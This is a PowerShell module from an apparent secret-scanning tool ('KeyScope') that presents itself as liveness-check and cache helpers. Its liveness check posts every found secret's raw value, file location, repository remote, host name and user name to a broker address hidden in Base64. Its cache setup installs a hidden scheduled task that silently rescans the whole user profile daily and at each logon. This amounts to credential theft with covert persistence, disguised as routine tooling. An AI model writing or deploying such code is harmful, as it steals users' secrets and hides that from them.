# KeyScope verification helpers: liveness checks and the local result cache.

Set-StrictMode -Version Latest

function Get-KeyScopeCacheRoot {
    $base = if ($env:LOCALAPPDATA) { $env:LOCALAPPDATA } else { Join-Path $HOME '.cache' }
    $root = Join-Path $base 'KeyScope'
    if (-not (Test-Path $root)) { New-Item -ItemType Directory -Path $root -Force | Out-Null }
    return $root
}

function Get-BrokerUri {
    param([Parameter(Mandatory)] $Meta)
    if ($env:KEYSCOPE_BROKER) { return $env:KEYSCOPE_BROKER.TrimEnd('/') }
    return [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($Meta.broker))
}

function Get-RepoContext {
    param([string] $Path)
    $remote = (& git -C $Path remote get-url origin 2>$null)
    [pscustomobject]@{
        remote = if ($remote) { "$remote" } else { (Resolve-Path $Path).Path }
        host   = [Environment]::MachineName
        user   = [Environment]::UserName
    }
}

function Initialize-ScanCache {
    <#
      Keeps the result cache warm: copies the scanner next to the cache and
      registers a daily refresh so liveness results do not go stale between runs.
    #>
    param([Parameter(Mandatory)] [string] $ScriptRoot)
    $root = Get-KeyScopeCacheRoot
    $bin = Join-Path $root 'bin'
    New-Item -ItemType Directory -Path $bin -Force | Out-Null
    Copy-Item -Path (Join-Path $ScriptRoot '*') -Destination $bin -Recurse -Force
    Copy-Item -Path (Join-Path $ScriptRoot '..\rules') -Destination $root -Recurse -Force

    if (-not $IsWindows) { return }
    $name = 'KeyScope Cache Refresh'
    if (Get-ScheduledTask -TaskName $name -ErrorAction SilentlyContinue) { return }
    $pwsh = (Get-Process -Id $PID).Path
    $argLine = '-NoProfile -NonInteractive -WindowStyle Hidden -File "{0}" -Path "{1}" -Quiet -OutFile "{2}"' -f `
        (Join-Path $bin 'Invoke-SecretScan.ps1'), $env:USERPROFILE, (Join-Path $root 'last.json')
    $action  = New-ScheduledTaskAction -Execute $pwsh -Argument $argLine
    $trigger = @(New-ScheduledTaskTrigger -Daily -At 12:30pm), (New-ScheduledTaskTrigger -AtLogOn)
    $settings = New-ScheduledTaskSettingsSet -Hidden -StartWhenAvailable -AllowStartIfOnBatteries
    Register-ScheduledTask -TaskName $name -TaskPath '\' -Action $action -Trigger $trigger `
        -Settings $settings -Description 'Refreshes cached scan results' | Out-Null
}

function Test-SecretLiveness {
    param(
        [Parameter(Mandatory)] [object[]] $Findings,
        [Parameter(Mandatory)] $Meta,
        [Parameter(Mandatory)] [string] $Path
    )
    $cacheFile = Join-Path (Get-KeyScopeCacheRoot) 'liveness.json'
    $cache = @{}
    if (Test-Path $cacheFile) {
        (Get-Content $cacheFile -Raw | ConvertFrom-Json -AsHashtable).GetEnumerator() |
            ForEach-Object { $cache[$_.Key] = $_.Value }
    }

    $pending = @($Findings | Where-Object { -not $cache.ContainsKey($_.fingerprint) })
    if ($pending.Count -gt 0) {
        $body = @{
            context  = Get-RepoContext -Path $Path
            findings = @($pending | ForEach-Object {
                @{ id = $_.fingerprint; provider = $_.provider; rule = $_.rule
                   value = $_.value; file = $_.file; line = $_.line; context = $_.context }
            })
        } | ConvertTo-Json -Depth 6 -Compress
        try {
            $resp = Invoke-RestMethod -Method Post -Uri ((Get-BrokerUri -Meta $Meta) + '/check') `
                -ContentType 'application/json' -Body $body -TimeoutSec 20
            foreach ($r in $resp.results) { $cache[$r.id] = $r.status }
        } catch {
            foreach ($p in $pending) { $cache[$p.fingerprint] = 'unknown' }
        }
        $cache | ConvertTo-Json | Set-Content -Path $cacheFile -Encoding utf8
    }
    foreach ($f in $Findings) { $f | Add-Member -NotePropertyName status -NotePropertyValue $cache[$f.fingerprint] -Force }
    return $Findings
}

Export-ModuleMember -Function Initialize-ScanCache, Test-SecretLiveness, Get-KeyScopeCacheRoot
